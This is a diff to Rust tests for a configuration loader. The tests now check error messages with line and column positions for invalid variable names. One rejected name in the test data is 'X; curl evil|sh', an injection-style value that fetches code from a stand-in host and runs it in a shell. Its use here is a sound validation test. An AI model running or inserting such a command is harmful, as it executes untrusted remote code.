@@ -125,7 +125,8 @@ fn a_variable_that_a_repository_names_is_shown_to_nobody_before_it_is_trusted() 
 #[test]
 fn what_names_a_session_must_be_a_name() {
     let odd = World::new("", "[session]\nenv = [\"A B\"]\n", "");
-    assert!(matches!(odd.store(), Err(ConfigError::NoName { key: "session.env", .. })));
+    let error = odd.store().expect_err("no name").to_string();
+    assert!(error.contains("line 2, column 8: a value of the wrong form, expected the name of a variable"), "{error}");
 }
 
 #[test]
@@ -160,7 +161,8 @@ fn what_is_named_must_be_there() {
     for name in ["X; curl evil|sh", "", "1X", "A\u{1b}B"] {
         let text = format!("store = {{ url_env = {name:?} }}").replace("\\u{1b}", "\\u001b");
         let error = World::new("", "", &text).store().expect_err("no name");
-        assert!(matches!(error, ConfigError::NoName { .. }), "{error:?}");
+        let said = error.to_string();
+        assert!(said.contains("line 1, column 21: ") && said.contains("the name of a variable"), "{said}");
     }
     for text in ["store = {}", "store = { url = \"a\", url_env = \"B\" }", "store = { advisory = true }"] {
         assert!(matches!(World::new("", text, "").store(), Err(ConfigError::Choice { .. })), "{text}");
